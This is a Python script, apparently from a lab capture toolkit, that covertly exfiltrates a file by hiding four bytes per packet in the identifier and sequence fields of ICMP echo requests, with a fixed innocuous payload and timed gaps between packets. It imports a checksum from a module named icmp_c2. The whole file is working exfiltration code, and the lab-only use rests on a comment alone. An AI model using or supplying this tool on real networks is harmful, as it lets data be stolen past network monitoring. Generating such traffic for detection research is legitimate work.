#!/usr/bin/env python3
"""icmp_hdr_exfil.py — data hidden in the echo identifier and sequence fields, for recording
lab captures (record_extra.sh scenario exfil_header_fields): every echo request carries four
bytes of a file in its id and sequence number and a fixed, ordinary-looking payload, as the
"covert identifier" channels of the literature (Rowland 1997, its ICMP variants) do.

  icmp_hdr_exfil.py PEER FILE GAP_S MAX

Sends at most MAX requests, GAP_S seconds apart, to PEER (one of the lab's addresses).
"""
import socket
import struct
import sys
import time

from icmp_c2 import checksum  # the same Internet checksum (this folder is on sys.path)


def main():
    peer, path, gap, most = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
    data = open(path, "rb").read()
    data += b"\0" * (-len(data) % 4)
    payload = bytes(range(0x10, 0x30))  # 32 fixed bytes, the same in every request
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for n, off in enumerate(range(0, len(data), 4)):
        if n >= most:
            break
        ident, seq = struct.unpack("!HH", data[off:off + 4])
        hdr = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
        csum = checksum(hdr + payload)
        pkt = struct.pack("!BBHHH", 8, 0, csum, ident, seq) + payload
        s.sendto(pkt, (peer, 0))
        time.sleep(gap)


if __name__ == "__main__":
    main()
